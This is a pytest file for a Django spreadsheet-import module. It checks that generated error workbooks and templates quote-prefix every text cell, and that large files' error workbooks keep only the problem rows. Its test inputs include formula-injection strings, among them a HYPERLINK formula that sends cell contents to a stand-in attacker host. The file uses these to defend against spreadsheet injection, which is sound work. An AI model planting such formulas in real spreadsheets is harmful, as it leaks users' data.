"""The workbooks an import writes (associations.imports.workbooks): every text cell is stored
as text with the quote prefix, the user's own cells included, so no spreadsheet evaluates it;
the error workbook's cost follows its problems, not the size of the file."""

from __future__ import annotations

import io
import time

import openpyxl
import pytest

from associations.imports import read_table, template_workbook
from associations.imports.columns import ColumnSpec
from associations.imports.workbooks import ALL_ROWS_UP_TO, build_error_workbook

COLUMNS = [
    ColumnSpec("name", "姓名", required=True),
    ColumnSpec("id_number", "身份证号码", required=True, text=True),
    ColumnSpec("phone", "联系电话", text=True),
    ColumnSpec("address", "住址"),
]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+86 138 1234 5678",
    "-",
    "@x",
    "=1+1",
]


def sheet_bytes(rows: list[list]) -> bytes:
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("名册")
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def problem(row: int, field: str, message: str = "有问题") -> dict:
    return {"row": row, "column": "", "field": field, "code": "REQUIRED", "message": message}


def test_the_users_cells_come_back_as_quote_prefixed_text():
    from openpyxl.cell import WriteOnlyCell

    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("名册")
    sheet.append(["姓名", "身份证号码", "联系电话", "住址"])
    for value in HOSTILE:  # stored as text in the upload, as a user's sheet would hold them
        cells = [WriteOnlyCell(sheet, value=v) for v in ("甲", "130534199003070032", value, value)]
        for cell in cells:
            cell.data_type = "s"
        sheet.append(cells)
    buffer = io.BytesIO()
    book.save(buffer)
    table, raw = read_table(buffer.getvalue(), "xlsx", COLUMNS, keep_raw=True)
    assert [r.values["address"] for r in table.records] == HOSTILE
    problems = [problem(2, "address", message="=2+2"), problem(3, "phone")]
    content = build_error_workbook(
        table, raw, problems, code_labels={"REQUIRED": "@必填"}, text_columns=[1, 2]
    )
    written = openpyxl.load_workbook(io.BytesIO(content))
    first, listing = written.worksheets
    for row, value in enumerate(HOSTILE, 2):
        for column in ("C", "D"):
            cell = first[f"{column}{row}"]
            assert cell.value == value and cell.data_type == "s" and cell.quotePrefix, (row, value)
    assert first["A1"].quotePrefix and first["B2"].quotePrefix  # headers and names too
    for row in listing.iter_rows(min_row=1):
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and cell.quotePrefix, cell.value
    assert listing["C2"].value == "=2+2" and listing["D2"].value == "@必填"


@pytest.mark.django_db
def test_the_templates_text_cells_are_quote_prefixed():
    for kind in ("members", "households"):
        book = openpyxl.load_workbook(io.BytesIO(template_workbook(kind)))
        strings = [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        ]
        assert len(strings) > 40
        assert all(cell.quotePrefix and cell.data_type == "s" for cell in strings)


def test_a_large_files_error_workbook_keeps_its_problem_rows_at_their_row_numbers():
    """49,000 rows, three of them bad: the error workbook holds the title, the header and the
    three rows, each at its own row number; it does not copy the other 48,997."""
    rows = [["某村花名册"], ["姓名", "身份证号码", "联系电话", "住址"]]
    rows += [[f"人{i}", f"1305341990030{i:05d}", "13812345678", f"{i}号"] for i in range(49_000)]
    data = sheet_bytes(rows)
    table, raw = read_table(data, "xlsx", COLUMNS, keep_raw=True)
    bad = [3, 24_503, 49_002]
    problems = [problem(n, "phone", f"第 {n} 行的电话") for n in bad]
    started = time.perf_counter()
    content = build_error_workbook(table, raw, problems, code_labels={}, text_columns=[1, 2])
    assert time.perf_counter() - started < 3.0
    written = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    kept = [
        (row[0].row, row[0].value)
        for row in written.worksheets[0].iter_rows()
        if row and row[0].value is not None
    ]
    assert kept == [
        (1, "某村花名册"),
        (2, "姓名"),
        (3, "人0"),
        (24_503, "人24500"),
        (49_002, "人48999"),
    ]
    note = [c.value for row in written["问题清单"].iter_rows() for c in row if c.value]
    assert any("文件共有 49000 行数据" in str(v) and "有问题的 3 行" in str(v) for v in note)


def test_a_small_files_error_workbook_copies_every_row():
    rows = [["姓名", "身份证号码", "联系电话", "住址"]]
    rows += [
        [f"人{i}", f"1305341990030{i:05d}", "13812345678", None] for i in range(ALL_ROWS_UP_TO)
    ]
    table, raw = read_table(sheet_bytes(rows), "xlsx", COLUMNS, keep_raw=True)
    content = build_error_workbook(table, raw, [problem(5, "phone")], code_labels={})
    written = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    first = [row[0].value for row in written.worksheets[0].iter_rows()]
    assert first == ["姓名", *(f"人{i}" for i in range(ALL_ROWS_UP_TO))]
    listing = [c.value for row in written["问题清单"].iter_rows() for c in row if c.value]
    assert not any("文件共有" in str(v) for v in listing)
